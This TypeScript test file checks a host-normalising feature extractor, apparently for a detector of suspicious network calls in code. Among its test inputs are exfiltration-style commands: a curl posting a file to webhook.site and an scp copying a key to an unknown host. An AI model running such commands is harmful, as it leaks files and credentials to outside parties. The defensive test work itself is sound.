import { describe, expect, it } from 'vitest'
import { hostWords } from './host-words.ts'

// WUN-103: the name of a host says nothing, as an attacker takes a new one each time; whose it is does.
describe('hosts in a line of a program', () => {
  it.each([
    ["fetch('https://metrics.kitchen-sync.dev/v1')", "fetch('https:// NEWHOST /v1')", []],
    ["fetch('https://api.github.com/user')", "fetch('https:// KNOWNHOST /user')", ['host:github.com']],
    ['get("https://api.airtable.com/v1")', 'get("https:// KNOWNHOST /v1")', ['host:airtable.com']],
    ['curl https://get.k3s.io', 'curl https:// KNOWNHOST ', ['host:k3s.io']],
    ['curl -d @f https://webhook.site/x', 'curl -d @f https:// NEWHOST /x', ['host kind:drop']],
    [
      'scp key a.unheard-of.io:; curl raw.githubusercontent.com',
      'scp key  NEWHOST :; curl  KNOWNHOST ',
      ['host:githubusercontent.com'],
    ],
  ])('%s', (line, plain, features) => expect(hostWords(line)).toEqual({ line: plain, features }))

  it.each(['self.path.join(base)', 'requests.post(url)', 'v1.2.3', 'jane@mail.company.com', 'deep.company.company'])(
    'is none: %s',
    (line) => expect(hostWords(line)).toEqual({ line, features: [] }),
  )
})
